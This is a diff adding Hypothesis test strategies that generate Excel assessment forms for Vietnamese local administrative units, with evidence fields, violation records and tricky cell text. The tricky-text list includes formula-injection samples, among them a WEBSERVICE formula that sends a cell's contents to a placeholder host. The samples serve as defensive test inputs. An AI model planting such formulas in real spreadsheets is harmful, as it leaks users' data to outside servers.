@@ -1284,6 +1284,126 @@ def channel_batches(draw: st.DrawFn, max_size: int = 30) -> dict[str, object]:
     }
 
 
+# --- excel form: pre-filled forms of every kind, every field the form holds -------------------
+
+
+def excel_every_kind_framework_data() -> dict[str, object]:
+    """The all-kinds framework with a tally criterion too (max 0: a tally is not scored)."""
+    data = all_kinds_framework_data()
+    g3 = data["groups"][2]  # type: ignore[index]
+    g3["criteria"].append(
+        _crit("tally", 0, {"kind": "tally", "unit": "tấn rác thải được phân loại", "per": "year"})
+    )
+    return data
+
+
+#: Texts that a spreadsheet would take for a formula, a number or an escape if written
+#: carelessly, each a whole cell's text.
+excel_tricky_texts = st.sampled_from(
+    [
+        "=1+1",
+        '=HYPERLINK("http://example.invalid","Xã Thống Nhất")',
+        '=WEBSERVICE("http://example.invalid/?q="&A1)',
+        "+84 912 345 678",
+        "-5",
+        "@SUM(A1:A3)",
+        "_x0041_ giữ nguyên",
+        "#VALUE!",
+        "00127",
+        "dòng 1\r\ndòng 2",
+    ]
+)
+
+#: Free text a form cell gives back unchanged: Vietnamese letters, digits, punctuation and
+#: symbols, inner spaces and line breaks, nothing at either end that a reader trims.
+excel_form_texts = (
+    st.text(
+        st.characters(categories=("L", "N", "P", "S", "Zs"), exclude_characters="\u2028\u2029")
+        | st.sampled_from(["\n", "ệ", "Ử", "đ"]),
+        min_size=1,
+        max_size=30,
+    ).filter(lambda t: t == t.strip() and t != "")
+    | excel_tricky_texts
+)
+
+#: A field of a piece of evidence: no line break, no "; label:", nothing at either end.
+excel_evidence_texts = excel_form_texts.filter(
+    lambda t: "\n" not in t and "\r" not in t and ";" not in t
+)
+
+
+@st.composite
+def excel_evidence(draw: st.DrawFn) -> dict[str, object]:
+    """A piece of evidence with any of its fields, each one the form can write."""
+    ref = draw(st.sampled_from(["document", "file", "url"]))
+    evidence: dict[str, object] = {ref: draw(excel_evidence_texts)}
+    for key in ("document", "file", "url", "title"):
+        if key != ref and draw(st.booleans()):
+            evidence[key] = draw(excel_evidence_texts)
+    if draw(st.booleans()):
+        evidence["date"] = draw(st.dates(dt.date(2000, 1, 1), dt.date(2030, 12, 31)))
+    return evidence
+
+
+@st.composite
+def excel_form_assessments(
+    draw: st.DrawFn, framework: object, rules: dict[str, list[str] | None]
+) -> dict[str, object]:
+    """An assessment (plain dict) using every field the Excel form holds.
+
+    A year or a span of dates as the period; a unit with a code keeping its leading zeros,
+    a name and notes that look like formulas, a type the period allows, a former code and a
+    district; violation records for the deduction criteria (`rules` as for
+    `excel_violation_records`); notes and evidence on the answers.
+    """
+    year = draw(st.integers(2020, 2030))
+    first, last = dt.date(year, 1, 1), dt.date(year, 12, 31)
+    period: object = year
+    if draw(st.booleans()):
+        start = draw(st.dates(first, last))
+        end = draw(st.dates(start, last))
+        period, first, last = {"start": start, "end": end}, start, end
+    data = draw(scoring_assessments(framework, period=year))
+    data["period"] = period
+    types = ["xã", "phường", "đặc khu"] + (["thị trấn"] if last <= dt.date(2025, 6, 30) else [])
+    unit: dict[str, object] = {
+        "code": draw(st.from_regex(r"0{0,3}[0-9]{1,5}", fullmatch=True)),
+        "name": draw(excel_form_texts),
+        "province": draw(excel_form_texts),
+    }
+    if draw(st.booleans()):
+        unit["type"] = draw(st.sampled_from(types))
+    if draw(st.booleans()):
+        unit["former_code"] = draw(st.from_regex(r"0[0-9]{4}", fullmatch=True))
+    if draw(st.booleans()):
+        district: dict[str, object] = {"name": draw(excel_form_texts)}
+        if draw(st.booleans()):
+            district["code"] = draw(st.from_regex(r"0?[0-9]{3}", fullmatch=True))
+        unit["district"] = district
+    data["unit"] = unit
+    if draw(st.booleans()):
+        data["submitted"] = draw(st.dates(first, dt.date(2031, 12, 31)))
+    if draw(st.booleans()):
+        data["note"] = draw(excel_form_texts)
+    answers: dict[str, dict[str, object]] = data["answers"]  # type: ignore[assignment]
+    for cid, answer in list(answers.items()):
+        answer = dict(answer)
+        if cid in rules:
+            records = draw(st.lists(excel_violation_records(rules[cid], (first, last)), max_size=3))
+            value: dict[str, object] = {"kind": "deduction"}
+            if not records or draw(st.booleans()):
+                value["violations"] = len(records) if records else draw(st.integers(0, 20))
+            if records:
+                value["records"] = records
+            answer["value"] = value
+        if draw(st.integers(0, 3)) == 0:
+            answer["note"] = draw(excel_form_texts)
+        if draw(st.integers(0, 3)) == 0:
+            answer["evidence"] = draw(st.lists(excel_evidence(), min_size=1, max_size=3))
+        answers[cid] = answer
+    return data
+
+
 # --- readers ----------------------------------------------------------------------------------
 
 #: Any text a file can hold (no lone surrogates), Vietnamese and control characters included.
